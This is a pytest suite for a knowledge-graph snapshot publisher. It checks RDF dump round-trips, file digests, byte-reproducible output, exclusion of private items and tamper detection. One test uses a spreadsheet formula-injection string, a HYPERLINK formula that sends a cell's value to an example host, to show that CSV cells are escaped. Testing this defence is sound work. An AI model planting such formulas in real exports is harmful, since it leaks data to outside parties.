"""Dumps: each says what the snapshot says, its size and digest are true, and the same content gives the same bytes."""

import csv
import gzip
import json
import tempfile
from hashlib import sha256
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pyoxigraph import DefaultGraph, Literal, NamedNode, Quad, QuerySolutions, RdfFormat, Store, parse
from rdflib import RDFS, Dataset, URIRef
from rdflib.compare import isomorphic

from graph.errors import SnapshotDamaged
from graph.forms.claims_table import guarded, unguarded
from graph.iris import ID, ONTOLOGY_GRAPH
from graph.segments.content import Content
from graph.segments.lines import sorted_lines
from graph.snapshot import Snapshot, Snapshots
from graph.snapshots import dumping
from graph.snapshots.dumps import LAYOUT, MEDIA_TYPES, OWN, Dumps, sealed
from graph.snapshots.statistics import TYPE
from ontology.terms import POL

EX = "http://example.org/"
FORMATS = {"data.nq.gz": RdfFormat.N_QUADS, "data.trig.gz": RdfFormat.TRIG, "data.jsonld.gz": RdfFormat.JSON_LD}


@pytest.fixture(scope="module")
def published(seed_store: Store, tmp_path_factory: pytest.TempPathFactory) -> Snapshot:
    return Snapshots(tmp_path_factory.mktemp("snapshots")).publish(list(seed_store), {})


def quad(subject: str, property_: str, value: str) -> Quad:
    return Quad(NamedNode(subject), NamedNode(property_), NamedNode(value), DefaultGraph())


def unpacked(snapshot: Snapshot, name: str) -> bytes:
    return gzip.decompress(snapshot.dumps.files[name].path.read_bytes())


def table(snapshot: Snapshot) -> list[dict[str, str]]:
    with snapshot.dumps.files["claims.csv"].path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file, strict=True))


@pytest.mark.parametrize("name", FORMATS)
def test_a_dump_holds_all_and_no_more(name: str, published: Snapshot, seed_store: Store) -> None:
    again = Store()
    again.bulk_extend(parse(unpacked(published, name), FORMATS[name]))
    assert sorted_lines(again) == sorted_lines(seed_store)


@pytest.mark.filterwarnings("ignore::DeprecationWarning")  # rdflib warns of itself
@pytest.mark.parametrize(("name", "format_"), [("data.trig.gz", "trig"), ("data.jsonld.gz", "json-ld")])
def test_rdflib_reads_the_same(name: str, format_: str, published: Snapshot) -> None:
    read, expected = Dataset(), Dataset()
    read.parse(data=unpacked(published, name), format=format_)
    expected.parse(data=unpacked(published, "data.nq.gz"), format="nquads")
    ontology = URIRef(ONTOLOGY_GRAPH)
    assert len(read.graph(ontology)) > 100
    assert isomorphic(read.graph(ontology), expected.graph(ontology))
    rest, wanted = ({quad for quad in held.quads() if quad[3] != ontology} for held in (read, expected))
    assert rest == wanted


def test_trig_names_each_graph_once_in_a_segment(published: Snapshot) -> None:
    """Else it would be larger than the N-Quads."""
    text = unpacked(published, "data.trig.gz").decode()
    segments = Content.of(published.content()).lines()
    graphs = [{quad.graph_name for quad in parse(lines, RdfFormat.N_QUADS)} - {DefaultGraph()} for lines in segments]
    assert len(graphs) > 1
    assert text.count("{\n") == sum(map(len, graphs))
    assert text.count("@prefix pol:") == 1


@pytest.mark.parametrize("name", [name for name in MEDIA_TYPES if name != OWN])
def test_size_and_digest_are_those_of_the_file(name: str, published: Snapshot) -> None:
    found = published.dumps.files[name]
    content = found.path.read_bytes()
    assert (len(content), sha256(content).hexdigest()) == (found.size, found.sha256)
    assert found.is_packed == content.startswith(b"\x1f\x8b")


def test_every_claim_has_its_row(published: Snapshot, seed_store: Store) -> None:
    rows = table(published)
    found = seed_store.query(f"""
        PREFIX pol: <{POL}> PREFIX oa: <http://www.w3.org/ns/oa#> PREFIX schema: <https://schema.org/>
        PREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#>
        SELECT ?claim ?label ?modality ?position (GROUP_CONCAT(DISTINCT ?words; separator="|") AS ?said) WHERE {{
          ?claim a pol:Claim ; rdfs:label ?label ; pol:modality ?modality ; schema:position ?position ;
            pol:quote/oa:hasSelector/oa:exact ?words
        }} GROUP BY ?claim ?label ?modality ?position ORDER BY ?position""")
    assert isinstance(found, QuerySolutions)
    expected = [tuple(cell.value for cell in row) for row in found]
    assert len(rows) == len(expected) > 20
    for row, (claim, label, modality, position, said) in zip(rows, expected, strict=True):
        assert (row["claim"], row["sentence"], row["position"]) == (claim, label, position)
        assert modality.endswith(f"#{row['modality']}")
        assert set(row["quote"].split("\n")) == set(said.split("|"))


def test_positions_in_the_table_are_those_of_the_words(published: Snapshot, seed_text: str) -> None:
    for row in table(published):
        for words, start, end in zip(*(row[name].split("\n") for name in ("quote", "start", "end")), strict=True):
            assert seed_text[int(start) : int(end)] == words


def test_the_table_names_who_and_what_is_sensitive(published: Snapshot) -> None:
    rows = {row["claim"]: row for row in table(published)}
    assert {row["sensitive"] for row in rows.values()} == {"true", "false"}
    assert all(row["attributed_to"] and row["attributed_to_name"] and row["headline"] for row in rows.values())
    reported = next(row for row in rows.values() if row["modality"] == "reported")
    assert len(reported["attributed_to"].split()) == len(reported["attributed_to_name"].split("\n"))


FORMULA = '=HYPERLINK("http://example.org/?"&A1)'


def test_no_cell_is_a_formula_and_what_was_said_is_had_back(tmp_path: Path) -> None:
    claim = f"{ID}claim/a/b"
    label = Quad(NamedNode(claim), NamedNode(str(RDFS.label)), Literal(FORMULA), DefaultGraph())
    snapshot = Snapshots(tmp_path).publish([quad(claim, TYPE[1:-1], str(POL.Claim)), label], {})
    (row,) = table(snapshot)
    assert row["sentence"] == f"'{FORMULA}"
    assert unguarded(row["sentence"]) == FORMULA


@given(st.text(st.sampled_from("'=+-@\t\r\n＝ab "), max_size=6))
def test_a_guarded_cell_begins_no_formula_and_is_had_back_exactly(text: str) -> None:
    cell = guarded(text)
    assert cell[:1] not in tuple("=+-@\t\r\n＝＋－＠")
    assert unguarded(cell) == text
    assert cell == text or cell == f"'{text}"


@pytest.mark.parametrize("text", ["Nur Otan", "'quoted'", "it's", "", "a=b", "‘=x"])
def test_what_is_no_danger_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text == unguarded(text)


def test_a_claim_of_which_little_is_said_has_a_row_too(tmp_path: Path) -> None:
    snapshot = Snapshots(tmp_path).publish([quad(f"{ID}claim/a/b", TYPE[1:-1], str(POL.Claim))], {})
    (row,) = table(snapshot)
    assert (row["claim"], row["quote"], row["editorial"]) == (f"{ID}claim/a/b", "", "")


def test_things_are_what_has_a_page_without_private_life(published: Snapshot, seed_store: Store) -> None:
    found = seed_store.query(f"""
        SELECT DISTINCT ?it WHERE {{ ?it a ?any
          FILTER(STRSTARTS(STR(?it), "{ID}") && !CONTAINS(STR(?it), "#"))
          FILTER NOT EXISTS {{ ?it <{POL.sensitive}> true }} }} ORDER BY STR(?it)""")
    assert isinstance(found, QuerySolutions)
    expected = [row[0].value for row in found]
    assert published.dumps.parts == 1
    assert list(published.dumps.things(1)) == expected
    private = {row["claim"] for row in table(published) if row["sensitive"] == "true"}
    assert private
    assert not private & set(expected)


def test_things_are_parted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(dumping, "PART", 2)
    iris = [f"{ID}party/{name}" for name in "abcde"]
    dumps = Snapshots(tmp_path).publish([quad(iri, TYPE[1:-1], f"{EX}Party") for iri in iris], {}).dumps
    assert [dumps.things(part) for part in (1, 2, 3)] == [tuple(iris[:2]), tuple(iris[2:4]), (iris[4],)]
    assert dumps.parts == 3
    for part in (0, 4, -1):
        with pytest.raises(LookupError):
            dumps.things(part)


@settings(max_examples=10, deadline=None)
@given(st.data())
def test_the_same_quads_give_the_same_bytes(data: st.DataObject) -> None:
    names = st.sampled_from("abcde").map(lambda letter: NamedNode(EX + letter))
    values = names | st.text(st.characters(exclude_categories=["Cs"]), max_size=8).map(Literal)
    some = data.draw(st.lists(st.builds(Quad, names, names, values, names | st.just(DefaultGraph())), max_size=12))
    with tempfile.TemporaryDirectory() as one, tempfile.TemporaryDirectory() as two:
        first = Snapshots(Path(one)).publish(some, {})
        second = Snapshots(Path(two)).publish(data.draw(st.permutations(some)), {})
        written = [path.relative_to(first.path) for path in sorted(first.dumps_path.iterdir())]
        assert len(written) >= 4
        for name in written:
            assert (first.path / name).read_bytes() == (second.path / name).read_bytes()


@pytest.mark.parametrize("name", ["data.trig.gz", "data.jsonld.gz", "claims.csv", "things-1.txt", "index.json"])
def test_damage_to_a_dump_is_noticed(name: str, tmp_path: Path) -> None:
    snapshot = Snapshots(tmp_path).publish([quad(f"{ID}party/a", TYPE[1:-1], f"{EX}Party")], {})
    snapshot.verify()
    file = snapshot.dumps_path / name
    file.chmod(0o644)
    file.write_bytes(file.read_bytes() + b" x")
    with pytest.raises(SnapshotDamaged, match=name):
        snapshot.verify()


@pytest.mark.parametrize("spoilt", ["gone", "another layout"])
def test_a_snapshot_of_an_earlier_release_gets_dumps_when_published_again(spoilt: str, tmp_path: Path) -> None:
    quads = [quad(f"{ID}party/a", TYPE[1:-1], f"{EX}Party")]
    snapshots = Snapshots(tmp_path)
    snapshot = snapshots.publish(quads, {})
    written = {path.name: path.read_bytes() for path in snapshot.dumps_path.iterdir()}
    index = snapshot.dumps_path / "index.json"
    for path in (snapshot.path, snapshot.dumps_path, index):
        path.chmod(0o755)
    if spoilt == "gone":
        snapshot.dumps_path.rename(tmp_path / "elsewhere")
    else:
        index.write_text(json.dumps(sealed(json.loads(index.read_text()) | {"layout": LAYOUT + 1})))
    snapshot.verify()
    assert not snapshot.dumps.is_current()
    assert not snapshot.dumps.files
    store = snapshot.store_path.stat().st_ino
    again = snapshots.publish(quads, {})
    assert {path.name: path.read_bytes() for path in again.dumps_path.iterdir()} == written
    assert not [path for path in (again.path, *again.dumps_path.iterdir()) if path.stat().st_mode & 0o222]
    assert again.store_path.stat().st_ino == store, "what takes longest is not made again"
    assert not list(tmp_path.glob(".building*"))


def test_a_folder_without_dumps_has_none(tmp_path: Path) -> None:
    dumps = Dumps(tmp_path / "dumps")
    assert (dict(dumps.files), dumps.parts, dumps.is_current(), dumps.damage()) == ({}, 0, False, None)
